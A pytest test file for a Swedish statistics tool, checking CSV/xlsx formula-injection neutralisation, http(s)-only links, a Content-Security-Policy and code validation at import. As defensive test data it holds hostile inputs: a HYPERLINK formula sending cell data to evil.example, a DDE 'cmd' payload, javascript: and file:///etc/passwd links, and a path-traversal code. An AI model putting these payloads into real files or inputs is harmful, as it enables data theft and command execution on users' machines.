"""Nothing the user wrote becomes code elsewhere (issue 10, kind 4).

* every CSV/xlsx jamlik writes neutralises text a spreadsheet would run
  (= + - @, tab, CR: OWASP CSV injection), numbers stay numbers, and an export
  imports back unchanged;
* links in status reports and examples are http(s) only, everywhere;
* the annual report HTML carries a Content-Security-Policy;
* codes get a checked length and character set at import.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, strategies as st

from jamlik.cells import FORMULA_START, neutralise, neutralise_frame, restore, restore_series
from jamlik.errors import ArgumentError, InputError
from jamlik.jobs import write_export
from jamlik.ingest import parse_file
from jamlik.program import check_link, safe_link

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "program"))
from followup_world import build_world  # noqa: E402

SRC = Path(__file__).resolve().parents[2] / "src" / "jamlik"
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+1+1", "-2+3", "@SUM(A1)",
           "\tSUM", "\rSUM", "'=already quoted"]


@given(st.text())
def test_neutralise_is_safe_and_reversible(text):
    safe = neutralise(text)
    assert not safe[:1] in FORMULA_START
    assert restore(safe) == text
    assert restore_series(pd.Series([safe], dtype=object)).iloc[0] == text
    assert neutralise_frame(pd.DataFrame({"a": [text]}))["a"].iloc[0] == safe


def test_numbers_stay_numbers():
    frame = neutralise_frame(pd.DataFrame({"value": [-4.5, 0.0], "name": ["-4.5", "x"]}))
    assert frame["value"].tolist() == [-4.5, 0.0]
    assert frame["name"].tolist() == ["'-4.5", "x"]
    assert neutralise(-3) == -3


def frame_with_attacks() -> pd.DataFrame:
    return pd.DataFrame({
        "indicator": [f"ind_{i}" for i in range(len(ATTACKS))],
        "indicator_name": ATTACKS,
        "area_code": "1480", "area_name": "Göteborg", "area_version": "Kommun_2025",
        "period": "2024", "value": [-1.5 * i for i in range(len(ATTACKS))],
        "population": [100 * i for i in range(len(ATTACKS))],
    })


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "datapackage"])
def test_every_export_neutralises_text_and_imports_back_unchanged(tmp_path, fmt):
    frame = frame_with_attacks()
    target = tmp_path / ("out" if fmt == "datapackage" else f"out.{fmt}")
    write_export(frame, target, format=fmt)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(target).active
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            cells = dict(zip(header, row))
            assert cells["indicator_name"].data_type == "s"
            assert str(cells["indicator_name"].value)[:1] not in FORMULA_START
            assert cells["value"].data_type == "n"
    else:
        text = (target / "observations.csv" if fmt == "datapackage" else target).read_text()
        assert not any(line.split(",")[1][:1] in "=+-@" for line in text.splitlines()[1:])
        assert "'=HYPERLINK" in text and ",-1.5," in text
    read = parse_file(target / "datapackage.json" if fmt == "datapackage" else target)[2]
    # the importer trims the whitespace around every text (the tab and CR here)
    assert read.sort_values("indicator")["indicator_name"].tolist() == [a.strip() for a in ATTACKS]
    assert read.sort_values("indicator")["value"].tolist() == frame["value"].tolist()


def test_public_downloads_neutralise_text():
    from jamlik.web._tables import Column, Table, to_csv, to_xlsx

    table = Table(name="t", caption="c", columns=[Column("name", "Namn"), Column("v", "Värde")],
                  rows=[{"name": "=1+1", "v": -2.0}])
    # the number stays a number (not "'-2"), whole as an integer (issue 10, kind 11)
    assert "'=1+1,-2\r\n" in to_csv(table, example_label="", example_value="").decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, example_label="", example_value="",
                                                     about=[])))
    name, value = book.worksheets[0]["A2"], book.worksheets[0]["B2"]
    assert (name.value, name.data_type, value.value) == ("'=1+1", "s", -2)


def writes_spreadsheets(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = getattr(node.func, "attr", getattr(node.func, "id", ""))
            method = isinstance(node.func, ast.Attribute)
            if (method and name in ("to_csv", "to_excel", "writer", "DictWriter")) \
                    or name == "Workbook":  # pandas/csv writers, openpyxl workbooks
                return True
    return False


# CSV that no person opens: the COPY stream into PostgreSQL
NOT_FILES = {"store/_write.py"}


def test_every_module_that_writes_csv_or_xlsx_uses_the_one_neutraliser():
    writers = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.relative_to(SRC).as_posix() not in NOT_FILES \
                and writes_spreadsheets(ast.parse(text)):
            writers.append(path.relative_to(SRC).as_posix())
            assert "from jamlik.cells import" in text, f"{path} writes CSV/xlsx unneutralised"
    assert {"jobs/_export.py", "web/_tables.py", "cli/_output.py",
            "program/_excel_template.py"} <= set(writers)


@pytest.mark.parametrize("link", ["javascript:alert(1)", " JavaScript:alert(1)",
                                  "data:text/html,<script>", "file:///etc/passwd", "not a url",
                                  "//evil.example/x", "http://", "https://a b.example"])
def test_links_accept_only_http_and_https(link):
    with pytest.raises(ArgumentError, match="^länk "):
        check_link(link, field="länk")
    assert safe_link(link) is None


def test_a_good_link_passes():
    assert check_link(" https://goteborg.se/rapport?id=1 ") == "https://goteborg.se/rapport?id=1"


def test_a_javascript_link_never_reaches_the_annual_report(store, tmp_path):
    from sqlalchemy import update

    from jamlik.program import (close_cycle, open_cycle, requests_for, save_status_report)
    from jamlik.reports import annual_report
    from jamlik.store._programme import StatusReportVersion

    build_world(store)
    cycle = open_cycle(store, year=2024, author="Maria", deadline=dt.date(2025, 2, 28))
    request = next(r for r in requests_for(store, "kn", cycle_id=cycle.id))
    common = dict(activity_id=request.activity_id, cycle_id=cycle.id, author="Sara")
    for fields in ({"evidence_links": ["javascript:alert(1)"]},
                   {"examples": [{"quote": "Bra", "link": "javascript:alert(1)"}]}):
        with pytest.raises(ArgumentError, match="javascript:alert"):
            save_status_report(store, **common, expected_version=0, fields=fields)
    save_status_report(store, **common, expected_version=0,
                       fields={"status": "ongoing", "evidence_links": ["https://ok.example/"],
                               "examples": [{"quote": "Bra", "link": "https://ok.example/"}]})
    # a link stored before the rule existed is shown as nothing, not as a link
    with store.begin() as conn:
        conn.execute(update(StatusReportVersion).values(
            evidence_links=["javascript:alert(1)"],
            examples=[{"quote": "Bra", "document": "Rapport", "page": None,
                       "link": "javascript:alert(1)"}]))
    close_cycle(store, cycle.id, author="Maria")
    html = annual_report(store, tmp_path / "r.html", format="html").read_text(encoding="utf-8")
    assert "javascript:" not in html
    assert ('<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; '
            "img-src data:") in html


@pytest.mark.parametrize("column, code, problem", [
    ("indicator", "=cmd|' /C calc'!A0", "en kod ska börja med en bokstav eller siffra"),
    ("indicator", "<script>", "en kod ska börja med en bokstav eller siffra"),
    ("area_code", "../../etc", "en kod ska börja med en bokstav eller siffra"),
    ("dimension", "kön\x07", "en kod ska börja med en bokstav eller siffra"),
    ("indicator", "x" * 101, "koden är 101 tecken lång; en kod får vara högst 100 tecken"),
])
def test_codes_get_a_checked_length_and_character_set(tmp_path, column, code, problem):
    row = {"indicator": "ind", "area_code": "1480", "area_version": "Kommun_2025",
           "period": "2024", "value": "1",
           "dimension": "kon", "subgroup": "kvinnor"}
    row[column] = code
    path = tmp_path / "codes.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(row)
        writer.writerow(row.values())
    with pytest.raises(InputError, match=f"codes.csv: rad 2, kolumn '{column}': "
                                         + problem.replace("(", r"\(")):
        parse_file(path)
